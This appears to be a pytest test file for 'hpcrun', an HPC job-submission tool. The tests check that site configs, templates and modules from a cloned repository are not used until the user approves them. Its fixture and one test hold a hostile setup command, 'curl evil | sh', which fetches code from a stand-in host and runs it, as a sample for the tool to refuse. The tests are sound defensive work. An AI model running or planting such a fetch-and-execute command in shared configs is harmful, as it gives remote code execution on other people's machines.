"""A cloned repository's `.hpcrun/` is the user's own by its owner, and somebody else's work: it is not used unseen."""

import json
import os
import subprocess
import sys

import pytest

from hpcrun.sites import loader

EVIL = 'extends = "slurm"\nhosts = ["*"]\nslurm_conf = "/evil/slurm.conf"\nsetup = ["curl evil | sh"]\n'


@pytest.fixture
def clone(tmp_path, monkeypatch):
    """Return the project layer of a repository that was cloned, and stand in a folder of it."""
    layer = tmp_path / "clone/.hpcrun"
    (layer / "templates").mkdir(parents=True)
    (layer / "evil.toml").write_text(EVIL)
    (tmp_path / "clone/src").mkdir()
    monkeypatch.chdir(tmp_path / "clone/src")
    return layer


def dry_run(cli, *argv):
    return cli("submit", *argv, "--dry-run", "--", "x")


def test_a_project_does_not_select_the_site_and_a_warning_names_the_command(cli, clone):
    code, out, err = dry_run(cli)
    assert (code, "evil" in out) == (0, False)
    assert f"WARNING: the project's files in {clone} are not used: evil.toml: " in err
    assert f"HINT: read them, then hpcrun site allow {clone}\n" in err
    assert loader.select_site()[0] != "evil"


def test_modules_in_the_current_folder_are_not_imported(isolated_home, tmp_path):
    for name in ("typer", "json", "jinja2", "mpi4py", "numpy"):
        (tmp_path / f"{name}.py").write_text(f"open('{tmp_path}/ran', 'a').write('{name} ')\n")
    # as the installed command, without the current directory on sys.path
    script = [sys.executable, "-P", "-m", "hpcrun"]
    for argv in (
        [*script, "doctor", "--site", "local"],
        [*script, "run", "--site", "local", "--", "true"],
        [*script, "site", "init", "laptop", "--scheduler", "local", "-o", "-"],
        [sys.executable, "-m", "hpcrun", "submit", "--site", "local", "--dry-run", "--", "true"],
    ):
        done = subprocess.run(argv, cwd=tmp_path, capture_output=True, text=True, check=False)
        assert not (tmp_path / "ran").exists(), (argv, (tmp_path / "ran").read_text(), done.stderr)
        assert "Traceback" not in done.stderr


@pytest.mark.parametrize("site", ["evil", "HPCRUN_SITE", ".hpcrun/evil.toml", "mine"])
def test_a_command_that_names_a_site_of_a_project_is_refused(cli, clone, isolated_home, monkeypatch, site):
    (isolated_home / "config/hpcrun").mkdir(parents=True)
    (isolated_home / "config/hpcrun/mine.toml").write_text('extends = "evil"\n')
    monkeypatch.chdir(clone.parent)
    if site == "HPCRUN_SITE":
        monkeypatch.setenv(site, "evil")
    code, out, err = dry_run(cli, *([] if site == "HPCRUN_SITE" else ["--site", site]))
    assert (code, out) == (2, "")
    assert err.startswith("ERROR: ")
    assert "it may come from somebody else, and you have not allowed it\nHINT: " in err
    assert "hpcrun site allow" in err


def test_a_projects_layer_of_the_named_site_is_refused_and_of_others_ignored(cli, clone):
    (clone / "evil.toml").rename(clone / "slurm.toml")
    (clone / "slurm.toml").write_text('setup = ["curl evil | sh"]\n')
    assert dry_run(cli, "--site", "slurm")[0] == 2
    code, out, err = dry_run(cli, "--site", "local")
    assert (code, "curl evil" in out, "WARNING: the project's files" in err) == (0, False, True)


@pytest.mark.parametrize("name", ["slurm.sh.j2", "base.sh.j2", "software.sh.j2"])
def test_templates_of_a_project_are_not_compiled(cli, clone, name):
    (clone / "evil.toml").unlink()
    (clone / "templates" / name).write_text("{% block wrong")
    code, out, err = dry_run(cli, "--site", "slurm")
    assert (code, f"templates/{name}: it may come from somebody else" in err) == (0, True)
    assert "srun" in out


def test_an_allowed_project_is_used_until_it_changes(cli, clone):
    template = clone / "templates/slurm.sh.j2"
    template.write_text('{% extends "slurm.sh.j2" %}{% block setup %}{{ super() }}echo project\n{% endblock %}\n')
    code, _, err = cli("site", "allow", "--yes")
    assert (code, '+setup = ["curl evil | sh"]' in err, "echo project" in err) == (0, True, True)
    code, out, err = dry_run(cli)
    assert (code, err.count("not used")) == (0, 0)
    assert "curl evil" in out
    assert "echo project" in out

    template.write_text(template.read_text().replace("echo project", "echo changed"))
    # a job without what the project wants is none that somebody means
    for argv in ([], ["--site", "local"], ["--site", "evil"]):
        code, out, err = dry_run(cli, *argv)
        assert (code, out) == (2, "")
        assert "templates/slurm.sh.j2: it has changed since you allowed it\nHINT: read them, then hpcrun" in err
    assert cli("site", "allow", str(clone), "--yes")[0] == 0
    assert "echo changed" in dry_run(cli)[1]

    (clone / "local.toml").write_text('setup = ["echo new"]\n')  # as git pull may bring it
    code, _, err = dry_run(cli)
    assert (code, "local.toml: it may come from somebody else" in err) == (2, True)
    assert cli("site", "allow", "evil", "--yes")[0] == 0  # of one of its sites: the layer is used as a whole
    assert dry_run(cli)[0] == 0
    assert cli("site", "allow", "--revoke", str(clone))[0] == 0
    assert "curl evil" not in dry_run(cli)[1]


def test_a_project_that_is_not_allowed_is_shown_and_marked(cli, clone):
    code, out, err = cli("site", "list")
    row = next(line for line in out.splitlines() if line.startswith("evil"))
    assert row.split()[1:3] == ["NOT", "ALLOWED:"]
    assert f"hpcrun site allow {clone}" in err or "hpcrun site allow evil" in err
    assert "used here: evil" not in err
    rows = {row["name"]: row for row in json.loads(cli("site", "list", "--json")[1])}
    assert "you have not allowed it" in rows["evil"]["not_allowed"][0]
    assert not rows["evil"]["here"]
    code, out, err = cli("site", "show", "evil")
    assert (code, "curl evil" in out) == (0, True)
    assert "NOT ALLOWED" in err
    assert "evil" not in cli("site", "show")[1]
    code, _, err = cli("site", "check", "evil")
    assert (code, f"WARNING: {clone}/evil.toml: not used: " in err) == (0, True)
    layers = {row["layer"]: row for row in json.loads(cli("site", "list", "--layers", "--json")[1])}
    assert layers["project"]["allowed"] is False
    assert "NOT ALLOWED" in cli("site", "list", "--layers")[1]
    assert f"{clone} (NOT ALLOWED)" in cli("config")[1]


def test_doctor_and_site_test_do_not_use_a_project_that_is_not_allowed(cli, clone):
    code, out, _ = cli("doctor", "evil", "--json")
    assert code == 1
    assert "are not used" in json.loads(out)["rows"][0]["found"]
    assert cli("site", "test", "evil")[0] == 2


@pytest.mark.parametrize("target", ["/dev/zero", "pipe"])
def test_a_broken_link_in_a_project_is_ignored(cli, clone, target):
    if target == "pipe":
        os.mkfifo(clone / target)
    (clone / "endless.toml").symlink_to(target)
    code, _, err = dry_run(cli)
    assert (code, f"{clone}/endless.toml: not a regular file" in err) == (0, True)
